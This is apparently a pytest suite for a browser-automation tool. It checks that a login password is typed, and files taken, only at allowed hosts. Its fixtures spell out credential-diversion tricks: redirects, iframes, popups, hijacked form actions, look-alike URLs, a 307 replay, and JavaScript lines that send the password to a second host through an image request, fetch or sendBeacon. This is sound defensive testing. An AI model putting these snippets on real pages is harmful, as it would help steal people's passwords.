"""Secrets are typed and files taken at the target's places only, by whatever way a portal leads elsewhere."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from pages.dialect import load
from pages.downloads import download_or_refusal, fetch
from pages.login import LoginPage
from pages.screen import Screen
from sekisho.browser.pc import Pc
from sekisho.network.hosts import ElsewhereError, Hosts, address_of, is_place, origin
from sekisho.person.browsing import Browsing

from .conftest import Noted
from .harvester import Host, login

SECRET = "himitsu-9&あ"
USER = "emp00001"
Portal = tuple[Host, Host]


@pytest.fixture(scope="module")
def hosts() -> Iterator[Portal]:
    """The portal's own host, and the stranger's."""
    own, stranger = Host(), Host()
    yield own, stranger
    own.close()
    stranger.close()


@pytest.fixture
def own(hosts: Portal) -> Host:
    """The portal's own, with its log-in."""
    hosts[0].pages = {"/login": login()}
    hosts[0].got.clear()
    return hosts[0]


@pytest.fixture
def stranger(hosts: Portal) -> Host:
    """The stranger's, which shows the same."""
    hosts[1].pages = {"/login": login()}
    hosts[1].got.clear()
    return hosts[1]


@pytest.fixture
def person(pc: Pc, noted: Noted, own: Host) -> Browsing:
    """Somebody whose target is the one host only."""
    pc.hosts = Hosts([own.url("/login")])
    noted.secrets.append(SECRET)
    return Browsing(pc, noted)  # type: ignore[arg-type] # all that it asks of a recorder


@pytest.fixture
def screen(person: Browsing, pc: Pc) -> Screen:
    """What the person sees."""
    return Screen(
        lambda: person.page,
        load("danshin"),
        2,
        acted=person.act,
        family=lambda: person.windows.family(person.page),
        hosts=pc.hosts,
    )


def log_in(screen: Screen) -> None:
    """Type the password, and press."""
    LoginPage(screen).log_in(USER, SECRET)
    screen.wait_for(("buttons", "download"))


Page = Callable[[str], str]
FRAME = "<p>ようこそ</p><iframe src='{0}/login' width=600 height=300></iframe>"
WAYS: dict[str, tuple[str, Page]] = {
    "redirect": ("/to?{0}/login", lambda _: ""),
    "redirect twice": ("/to?/to%3F{0}/login", lambda _: ""),
    "refresh": ("/page", lambda there: f"<meta http-equiv=refresh content='0;url={there}/login'>"),
    "script": ("/page", lambda there: f"<script>location = '{there}/login'</script>"),
    "frame": ("/page", FRAME.format),
    "frame in a frame": ("/page", lambda there: f"<iframe src='/to?{there}/login' width=600 height=300></iframe>"),
    "popup": ("/page", lambda there: f"<h1>ようこそ</h1><script>open('{there}/login')</script>"),
    "form": ("/page", lambda there: login(f"{there}/taken")),
    "button": ("/page", lambda there: login(button=f"formaction='{there}/taken'")),
    "base": ("/page", lambda there: login("taken", before=f"<base href='{there}/'>")),
    "field called action": ("/page", lambda there: login(f"{there}/taken", fields="<input type=hidden name=action>")),
    "form by its id": (
        "/page",
        lambda there: (
            f"<form id=f method=post action='{there}/taken'></form>"
            + login().replace("<input ", "<input form=f ").replace("<form method", "<form class")
        ),
    ),
    "user before the host": ("/to?http://127.0.0.1:{1}@127.0.0.1:{2}/login", lambda _: ""),
    "look-alike": ("/to?http://xn--lcalhost-rwf.localhost:{2}/login", lambda _: ""),
    "another name": ("/to?http://localhost:{1}/login", lambda _: ""),
    "a frame of ours in another's page": ("/to?{0}/around", lambda _: ""),
}


@pytest.mark.parametrize("named", ["enrol.example.test:8443", "ENROL.example.test.:8443", "intra:443", "[::1]:9443"])
def test_a_place_is_known_however_the_browser_names_it(named: str) -> None:
    """In its dialog: with a port always, and with the last full stop that a link may have had."""
    hosts = Hosts(["https://enrol.example.test:8443/", "https://intra/", "https://[::1]:9443/"])
    assert hosts.names(f"サイト {named} に対する認証に使用する証明書") == []
    assert hosts.names(f"サイト x{named.strip('[')} に対する認証") != []


@pytest.mark.parametrize("way", WAYS)
def test_no_way_leads_a_password_elsewhere(
    person: Browsing, screen: Screen, own: Host, stranger: Host, way: str
) -> None:
    """It is not typed; the sentence names the place and the key that would allow it."""
    path, page = WAYS[way]
    own.pages["/page"] = page(stranger.url())
    stranger.pages["/around"] = f"<iframe src='{own.url('/login')}' width=600 height=300></iframe>"
    person.open(own.url(path.format(stranger.url(), own.server_address[1], stranger.server_address[1])))
    with pytest.raises(ElsewhereError, match=r"「.*」(を|の)入力.*ところ（http://.*ターゲットファイルの.*hosts = \["):
        log_in(screen)
    assert not any(SECRET in one or USER in one for one in (*stranger.got, *own.got))


def test_a_form_that_is_turned_around_later_is_not_pressed(
    person: Browsing, screen: Screen, own: Host, stranger: Host
) -> None:
    """By a script, after the password was typed."""
    own.pages["/page"] = login(
        after="<script>onchange = ({ target }) => { if (target.type === 'password')"
        f" document.forms[0].action = '{stranger.url('/x')}' }}</script>"
    )
    person.open(own.url("/page"))
    with pytest.raises(ElsewhereError, match="「Login」を押すと入力が送られるところ"):
        log_in(screen)
    assert stranger.got == []


HOUSE = (
    "<img src={0}/logo><link rel=stylesheet href={0}/style.css><script src={0}/count.js></script><a href={0}/x>x</a>"
)


def test_what_carries_no_secret_is_no_finding(person: Browsing, screen: Screen, own: Host, stranger: Host) -> None:
    """Pictures, styles and scripts of others, an advertisement in a frame, a search, a form of hidden fields."""
    there = stranger.url()
    others = f"<iframe src={there}/ad></iframe><form action={there}/search><input name=q></form>"
    relay = f"<form action={there}/relay method=post><input type=hidden name=t value=1><button>Download</button></form>"
    own.pages["/page"] = login(before=HOUSE.format(there), after=others)
    person.open(own.url("/page"))
    screen.fill("user_id", USER)
    screen.fill("login_password", SECRET)
    own.pages["/page"] = relay
    person.open(own.url("/page"))
    screen.press("download")
    screen.until(lambda: "受け付け" in screen.text())
    assert "受け付け" in screen.text()
    assert any("/logo" in one for one in stranger.got)


def test_a_place_that_the_file_adds_is_one(person: Browsing, screen: Screen, own: Host, stranger: Host) -> None:
    """A log-in elsewhere that the portal's owner knows of."""
    screen.hosts = person.pc.hosts = Hosts([own.url(), address_of(stranger.url())])
    person.open(own.url(f"/to?{stranger.url('/login')}"))
    LoginPage(screen).log_in(USER, SECRET)
    screen.until(lambda: "受け付け" in screen.text())
    assert any("pw=" in one for one in stranger.got)


@pytest.mark.parametrize("link", ["{0}/file", "/to?{0}/file"], ids=["link", "redirect"])
def test_no_file_of_others_is_taken(person: Browsing, screen: Screen, hosts: Portal, tmp_path: Path, link: str) -> None:
    """Not even to be looked at, where a page might come instead or not."""
    own, stranger = hosts
    own.pages["/page"] = f"<h1>鍵</h1><a href='{link.format(stranger.url())}'>Download</a>"
    person.open(own.url("/page"))
    with pytest.raises(ElsewhereError, match="ファイルが送られてくるところ"):
        fetch(screen, lambda: screen.press("download"), tmp_path)
    with pytest.raises(ElsewhereError, match="ファイルが送られてくるところ"):
        download_or_refusal(screen, lambda: screen.press("download"), tmp_path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "script",
    [
        "new Image().src = there + '?' + encodeURIComponent(pw)",
        "fetch(there, {method: 'POST', mode: 'no-cors', body: pw})",
        "navigator.sendBeacon(there, JSON.stringify({pw}))",
    ],
    ids=["picture", "fetch", "beacon"],
)
def test_what_a_script_sends_is_found_on_the_wire(
    person: Browsing, screen: Screen, own: Host, stranger: Host, script: str
) -> None:
    """The page is the portal's own and so is the form; only the wire shows where the password went besides."""
    more = f"<script>const there = '{stranger.url('/x')}'; onsubmit = () => {{ const pw = document.forms[0].pw.value;"
    more += f" {script} }}"
    own.pages["/page"] = login(after=f"{more}</script>")
    person.open(own.url("/page"))
    with pytest.raises(ElsewhereError, match="画面が秘密を送ったところ（http"):
        log_in(screen)


def test_a_reply_that_passes_the_password_on_is_found(
    person: Browsing, screen: Screen, own: Host, stranger: Host
) -> None:
    """307 has the browser send the form once more, to whom the reply says."""
    own.pages["/page"] = login(f"/again?{quote(stranger.url('/x'), safe='')}")
    person.open(own.url("/page"))
    with pytest.raises(ElsewhereError, match="画面が秘密を送ったところ（http"):
        log_in(screen)


@pytest.mark.parametrize(
    ("entry", "place"),
    [
        ("login.example.test", "https://login.example.test:443"),
        ("login.example.test:8443", "https://login.example.test:8443"),
        ("http://intra", "http://intra:80"),
        ("日本語.example.test", "https://xn--wgv71a119e.example.test:443"),
        ("[::1]:8443", "https://[::1]:8443"),
    ],
)
def test_a_place_is_written_as_a_person_would(entry: str, place: str) -> None:
    """Https and its port go without saying."""
    assert is_place(entry)
    assert origin(address_of(entry)) == place


@pytest.mark.parametrize("entry", ["", "https://", "a b", "ftp://x", "x/y", "u@x", "*.example.test", "x?y", "x:99999"])
def test_what_is_no_place_is_refused(entry: str) -> None:
    """By `check`, with what may be written."""
    assert not is_place(entry)
